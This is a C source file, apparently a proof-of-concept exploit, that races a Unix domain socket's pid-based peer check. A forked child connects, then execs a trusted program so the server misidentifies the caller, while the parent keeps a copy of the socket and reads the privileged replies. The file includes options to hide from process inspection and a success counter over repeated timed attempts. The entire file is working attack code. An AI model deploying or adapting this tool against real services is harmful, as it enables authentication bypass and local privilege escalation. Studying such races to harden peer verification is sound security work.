/* Connect under a pid that then becomes the trusted program, again and again.
 *
 * Usage: race SOCKET REQUEST TRUSTED TRIES self|child|hidden [OPTION of TRUSTED]
 *   A child connects with an inheritable descriptor and becomes TRUSTED; we hold a copy of it and read what is answered.
 *   self: the child writes the request before it becomes TRUSTED, so that we only read.
 *   child: we write it, once the child is TRUSTED. hidden: as self, and nobody but root may look into us.
 *   Prints each different answer once ("answer LINE"), and at the end "won N of M".
 */
#define _GNU_SOURCE
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int is_now(pid_t pid, const char *program) {
    char link[64], path[4096];
    snprintf(link, sizeof link, "/proc/%d/exe", pid);
    ssize_t length = readlink(link, path, sizeof path - 1);
    if (length < 0) return 0;
    path[length] = 0;
    return !strcmp(path, program);
}

int main(int count, char **words) {
    if (count < 6) return 2;
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, words[1], sizeof address.sun_path - 1);
    int tries = atoi(words[4]), hidden = !strcmp(words[5], "hidden"), won = 0;
    int self = hidden || !strcmp(words[5], "self");
    static char answer[4096], seen[4096];
    char request[1024];
    int length = snprintf(request, sizeof request, "%s\n", words[2]);
    signal(SIGPIPE, SIG_IGN);
    if (hidden) prctl(PR_SET_DUMPABLE, 0); /* an exec takes that back, for the child */
    for (int at = 0; at < tries; at++) {
        int fd = socket(AF_UNIX, SOCK_STREAM, 0), input[2];
        if (fd < 0 || pipe(input)) return 3;
        pid_t child = fork();
        if (child == 0) {
            dup2(input[0], 0);
            close(input[0]);
            close(input[1]);
            if (connect(fd, (struct sockaddr *)&address, sizeof address)) _exit(4);
            if (self && write(fd, request, (size_t)length) < 0) _exit(5);
            for (volatile int spin = 0; spin < at * 50; spin++) continue; /* each try at another moment */
            close(1);
            execl(words[3], words[3], words[1], words[2], "--quiet", words[6], (char *)NULL);
            _exit(6);
        }
        close(input[0]);
        if (!self) {
            while (!is_now(child, words[3]) && waitpid(child, NULL, WNOHANG) == 0) continue;
            if (write(fd, request, (size_t)length) < 0) {}
        }
        struct sockaddr_un peer;
        socklen_t bytes = sizeof peer;
        while (getpeername(fd, (struct sockaddr *)&peer, &bytes) && waitpid(child, NULL, WNOHANG) == 0) sched_yield();
        struct pollfd source = {fd, POLLIN, 0};
        ssize_t got = poll(&source, 1, 20000) > 0 ? read(fd, answer, sizeof answer - 1) : 0;
        if (got > 0) {
            answer[got] = 0;
            won += strstr(answer, "\"success\"") != NULL;
            if (strcmp(answer, seen)) printf("answer %s", answer);
            strcpy(seen, answer);
        }
        close(fd);
        close(input[1]);
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
    }
    printf("won %d of %d\n", won, tries);
    return 0;
}
